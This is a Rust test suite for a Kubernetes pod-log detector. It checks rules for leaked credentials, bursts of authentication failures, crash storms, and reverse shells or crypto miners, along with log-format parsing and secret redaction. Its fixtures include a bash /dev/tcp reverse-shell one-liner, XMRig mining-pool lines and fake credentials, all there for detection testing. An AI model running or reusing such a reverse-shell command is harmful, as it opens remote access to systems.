//! Pod logs through the detector: every rule of the pod log pack fires on the lines it is
//! about and stays quiet on ordinary logs that look close; the reader's formats, partial
//! lines, gzip and malformed lines; no credential value in any alert.

mod support;
use support::names;

use std::io::Write as _;
use std::path::{Path, PathBuf};

use kubevigil_detect::rules::{Events, RuleFiles};
use kubevigil_detect::{DetectionAlert, PodLogSource, PodRef};

/// Runs the built-in pod log pack over `files`; the alerts and the located errors.
fn detect(files: &[PathBuf], pod: PodRef) -> (Vec<DetectionAlert>, Vec<String>, u64) {
    support::run(Events::PodLogs, &mut PodLogSource::new(files, pod))
}

fn pod() -> PodRef {
    PodRef {
        namespace: Some("shop".into()),
        pod: Some("web-0".into()),
        container: Some("app".into()),
        node: None,
    }
}

/// Writes CRI lines, one per message, a second apart from 10:00:00 (`every` seconds apart).
fn cri_file(dir: &Path, name: &str, messages: &[String], every: u64) -> PathBuf {
    let path = dir.join(name);
    let mut f = std::fs::File::create(&path).unwrap();
    for (i, m) in messages.iter().enumerate() {
        let s = i as u64 * every;
        writeln!(
            f,
            "2026-11-30T10:{:02}:{:02}.123456789Z stdout F {m}",
            s / 60,
            s % 60
        )
        .unwrap();
    }
    path
}

fn repeat(line: &str, n: usize) -> Vec<String> {
    vec![line.to_string(); n]
}

/// (rule, lines that must raise it, lines that must not raise anything, seconds between lines)
fn cases() -> Vec<(&'static str, Vec<String>, Vec<String>, u64)> {
    vec![
        (
            "pod_log_credential",
            vec![
                "loaded config: aws_access_key_id=AKIAIOSFODNN7EXAMPLF region=eu-west-1".into(),
                r#"{"level":"debug","msg":"login","password":"Tr0ub4dor&3-horse"}"#.into(),
                "Authorization: Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0In0.c2lnbmF0dXJlLXZhbHVlLWhlcmU".into(),
            ],
            vec![
                "password reset email sent to user 42".into(),
                r#"{"level":"info","msg":"login","password":"<redacted>"}"#.into(),
                "connecting to postgres://db.shop.svc:5432/shop".into(),
                "token refreshed, expires in 3600s".into(),
            ],
            1,
        ),
        (
            "pod_log_auth_failure_burst",
            repeat(
                r#"2026-11-30 10:00:00.101 UTC [213] FATAL:  password authentication failed for user "postgres""#,
                20,
            ),
            // 19 failures in five minutes; HTTP 401 answers (expired sessions): no burst.
            [
                repeat(
                    r#"2026-11-30 10:00:00.101 UTC [213] FATAL:  password authentication failed for user "app""#,
                    19,
                ),
                repeat(
                    r#"10.244.0.5 - - [30/Nov/2026:10:00:00 +0000] "GET /api/cart HTTP/1.1" 401 12 "-" "Mozilla/5.0""#,
                    30,
                ),
            ]
            .concat(),
            10,
        ),
        (
            "pod_log_crash_storm",
            repeat(
                "panic: runtime error: invalid memory address or nil pointer dereference",
                10,
            ),
            [
                repeat("goroutine 1 [running]:", 12),
                repeat("level=warn msg=\"retrying after panic: recovered\"", 12),
                repeat("Traceback (most recent call last):", 9),
            ]
            .concat(),
            10,
        ),
        (
            "pod_log_reverse_shell_or_miner",
            vec![
                "+ bash -c 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'".into(),
                "[2026-11-30 10:21:00.512]  net      use pool stratum+ssl://pool.supportxmr.com:443".into(),
                " * VERSIONS     XMRig/6.21.0 libuv/1.44.2 gcc/11.2.0".into(),
            ],
            vec![
                "readiness: exec 3<>/dev/tcp/127.0.0.1/5432 && echo ok".into(),
                "GET /healthz 200".into(),
            ],
            1,
        ),
    ]
}

#[test]
fn every_rule_fires_on_its_lines_and_stays_quiet_on_lookalikes() {
    let dir = tempfile::tempdir().unwrap();
    let mut covered = Vec::new();
    for (rule, fire, quiet, every) in cases() {
        covered.push(rule);
        // Each firing line on its own (a correlation: all of them).
        let correlated = rule.ends_with("_burst") || rule.ends_with("_storm");
        let groups: Vec<Vec<String>> = if correlated {
            vec![fire.clone()]
        } else {
            fire.iter().map(|l| vec![l.clone()]).collect()
        };
        for (i, lines) in groups.iter().enumerate() {
            let f = cri_file(dir.path(), &format!("{rule}-fire-{i}.log"), lines, every);
            let (alerts, errors, _) = detect(&[f], pod());
            assert!(errors.is_empty(), "{errors:?}");
            assert_eq!(names(&alerts), [rule], "{rule}: {lines:?}");
        }
        let f = cri_file(dir.path(), &format!("{rule}-quiet.log"), &quiet, every);
        let (alerts, errors, events) = detect(&[f], pod());
        assert!(errors.is_empty(), "{errors:?}");
        assert_eq!(events, quiet.len() as u64);
        assert!(
            alerts.is_empty(),
            "{rule}: quiet lines raised {:?}",
            names(&alerts)
        );
    }
    // Every rule of the pack that raises alerts has its case.
    let loaded = RuleFiles::read(&[])
        .unwrap()
        .for_events(Events::PodLogs)
        .compile(true, &[]);
    for r in loaded.set.rules().iter().filter(|r| r.emits) {
        let name = r.meta.name.clone().unwrap_or_default();
        assert!(covered.contains(&name.as_str()), "no test case for {name}");
    }
}

#[test]
fn the_bundled_examples_raise_one_alert_per_attack_and_nothing_on_coredns() {
    let root = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../examples/logs/pods");
    let mut files: Vec<PathBuf> = Vec::new();
    for pod in std::fs::read_dir(&root).unwrap() {
        let pod = pod.unwrap().path();
        for c in std::fs::read_dir(&pod).unwrap() {
            files.push(c.unwrap().path().join("0.log"));
        }
    }
    files.sort();
    let (alerts, errors, _) = detect(&files, PodRef::default());
    assert!(errors.is_empty(), "{errors:?}");
    let mut got: Vec<(String, String)> = alerts
        .iter()
        .map(|a| {
            let or = &a.first_event()["objectRef"];
            (
                a.name().to_string(),
                format!(
                    "{}/{}",
                    or["namespace"].as_str().unwrap(),
                    or["name"].as_str().unwrap()
                ),
            )
        })
        .collect();
    got.sort();
    assert_eq!(
        got,
        [
            ("pod_log_auth_failure_burst".into(), "shop/db-0".into()),
            (
                "pod_log_crash_storm".into(),
                "shop/worker-5c8d7b9f4-k7m2p".into()
            ),
            (
                "pod_log_credential".into(),
                "shop/web-7d9f8b6c5d-x2x4q".into()
            ),
            (
                "pod_log_reverse_shell_or_miner".into(),
                "default/debug-shell".into()
            ),
        ]
    );
    for a in &alerts {
        let text = format!("{}{a:?}", a.to_json());
        assert!(!text.contains("Wint3r-Is-C0ming"), "{text}");
        // Who: the container of a single line, the group of a correlation.
        match a.group.as_deref() {
            None => assert!(a.who().starts_with("container "), "{}", a.who()),
            Some(g) => assert_eq!(g.len(), 3, "{g:?}"),
        }
    }
}

#[test]
fn no_credential_value_reaches_an_alert() {
    let dir = tempfile::tempdir().unwrap();
    let secrets = [
        "ghp_0123456789abcdefghijABCDEFGHIJ012345",
        "Tr0ub4dor&3-horse",
        "hunter2-but-longer",
        "AKIAIOSFODNN7EXAMPLF",
    ];
    let lines = vec![
        format!("using {}", secrets[0]),
        format!(r#"{{"msg":"connect","db_password":"{}"}}"#, secrets[1]),
        format!("DATABASE_URL=mysql://root:{}@mysql:3306/app", secrets[2]),
        format!("export AWS_ACCESS_KEY_ID={}", secrets[3]),
    ];
    let f = cri_file(dir.path(), "leaky.log", &lines, 1);
    let (alerts, _, _) = detect(&[f], pod());
    // One alert per pod and hour (its dedup key), counting every line.
    assert_eq!(alerts.len(), 1);
    assert_eq!(alerts[0].count, 4);
    for a in &alerts {
        let text = format!("{}{a:?}", a.to_json());
        for s in secrets {
            assert!(!text.contains(s), "alert holds {s}: {text}");
        }
        assert!(text.contains("<redacted: "), "{text}");
    }
}

#[test]
fn formats_partial_lines_gzip_and_kubelet_paths() {
    let dir = tempfile::tempdir().unwrap();
    // A CRI file under the kubelet's layout: the pod comes from the path; a line split in
    // three partial pieces is one message (here, a reverse shell cut in the middle).
    let pod_dir = dir
        .path()
        .join("var/log/pods/prod_api-6c9f_0a1b2c3d-0000-4000-8000-000000000000/api");
    std::fs::create_dir_all(&pod_dir).unwrap();
    let cri = pod_dir.join("0.log");
    std::fs::write(
        &cri,
        "2026-11-30T10:00:00.000000001Z stdout P bash -i >& /dev/t\n\
         2026-11-30T10:00:00.000000002Z stderr F unrelated\n\
         2026-11-30T10:00:00.000000003Z stdout P cp/203.0.113.9/\n\
         2026-11-30T10:00:00.000000004Z stdout F 4444 0>&1\n",
    )
    .unwrap();
    let (alerts, errors, events) = detect(std::slice::from_ref(&cri), PodRef::default());
    assert!(errors.is_empty(), "{errors:?}");
    assert_eq!(events, 2);
    assert_eq!(names(&alerts), ["pod_log_reverse_shell_or_miner"]);
    let ev = alerts[0].first_event();
    assert_eq!(ev["objectRef"]["namespace"], "prod");
    assert_eq!(ev["objectRef"]["name"], "api-6c9f");
    assert_eq!(ev["facts"]["log"]["container"], "api");
    assert_eq!(
        ev["facts"]["log"]["message"],
        "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"
    );
    assert_eq!(alerts[0].time.as_deref(), Some("2026-11-30T10:00:00.000Z"));

    // The same as Docker json-file lines, gzip-compressed (a rotated log).
    let docker = dir.path().join("docker.log.gz");
    let mut gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
    gz.write_all(
        b"{\"log\":\"bash -i >& /dev/t\",\"stream\":\"stdout\",\"time\":\"2026-11-30T10:00:00.1Z\"}\n\
          {\"log\":\"cp/203.0.113.9/4444 0>&1\\n\",\"stream\":\"stdout\",\"time\":\"2026-11-30T10:00:00.2Z\"}\n",
    )
    .unwrap();
    std::fs::write(&docker, gz.finish().unwrap()).unwrap();
    let (alerts, errors, events) = detect(&[docker], pod());
    assert!(errors.is_empty(), "{errors:?}");
    assert_eq!(events, 1);
    assert_eq!(names(&alerts), ["pod_log_reverse_shell_or_miner"]);

    // `kubectl logs --timestamps` output, and plain output.
    let plain = dir.path().join("plain.log");
    std::fs::write(
        &plain,
        "2026-11-30T10:00:05.5Z xmrig started\nno timestamp: xmrig again\n",
    )
    .unwrap();
    let (alerts, _, events) = detect(&[plain], pod());
    assert_eq!(events, 2);
    assert_eq!(alerts[0].time.as_deref(), Some("2026-11-30T10:00:05.500Z"));
}

#[test]
fn malformed_lines_are_located_and_skipped_and_the_rest_is_read() {
    let dir = tempfile::tempdir().unwrap();
    let f = dir.path().join("bad.log");
    let long = "x".repeat(kubevigil_detect::pod_logs::MAX_LINE + 10);
    std::fs::write(
        &f,
        format!(
            "2026-11-30T10:00:00Z stdout F first\n\
             2026-11-30T10:00:01Z stdin F \u{1b}[31mnot a stream\n\
             garbage without a timestamp\n\
             2026-11-30T10:00:02Z stdout F {long}\n\
             2026-11-30T10:00:03Z stdout F xmrig\n"
        ),
    )
    .unwrap();
    let missing = dir.path().join("missing.log");
    let (alerts, errors, events) = detect(&[missing.clone(), f.clone()], pod());
    let shown = f.display();
    assert_eq!(errors.len(), 4, "{errors:#?}");
    assert!(errors[0].starts_with(&format!("{}: cannot open", missing.display())));
    assert!(
        errors[1].starts_with(&format!(
            "{shown}:2:22: malformed CRI log line: expected the stream stdout or stderr: "
        )),
        "{}",
        errors[1]
    );
    // The line is quoted escaped, never raw.
    assert!(errors[1].contains("\\e[31m"), "{}", errors[1]);
    assert!(errors[2].starts_with(&format!("{shown}:3:1: malformed CRI log line")));
    assert!(errors[3].starts_with(&format!("{shown}:4:1048577: line longer than 1 MiB")));
    // first, the cut long line, xmrig.
    assert_eq!(events, 3);
    assert_eq!(names(&alerts), ["pod_log_reverse_shell_or_miner"]);
}

/// A malformed line is quoted in its error unless it holds a credential; a line joined from
/// partial pieces past the limit is cut and reported, never silently.
#[test]
fn errors_quote_no_credential_and_joined_lines_are_cut_out_loud() {
    let dir = tempfile::tempdir().unwrap();
    let secret = "ghp_0123456789abcdefghijABCDEFGHIJ012345";
    let half = "y".repeat(kubevigil_detect::pod_logs::MAX_LINE / 2 + 10);
    let f = dir.path().join("x.log");
    std::fs::write(
        &f,
        format!(
            "2026-11-30T10:00:00Z stdout F ok\n\
             2026-11-30T10:00:01Z stdout Q token {secret}\n\
             2026-11-30T10:00:02Z stdout P {half}\n\
             2026-11-30T10:00:03Z stdout P {half}\n\
             2026-11-30T10:00:04Z stdout F {half}\n"
        ),
    )
    .unwrap();
    let (_, errors, events) = detect(std::slice::from_ref(&f), pod());
    assert_eq!(events, 2);
    assert_eq!(errors.len(), 2, "{errors:?}");
    assert!(!errors[0].contains(secret), "{}", errors[0]);
    assert!(
        errors[0].ends_with("expected the tag F or P: <redacted: a GitHub token (ghp_****)>"),
        "{}",
        errors[0]
    );
    assert_eq!(
        errors[1],
        format!(
            "{}:3:1: line joined from partial lines longer than 1 MiB: the rest is skipped",
            f.display()
        )
    );
}
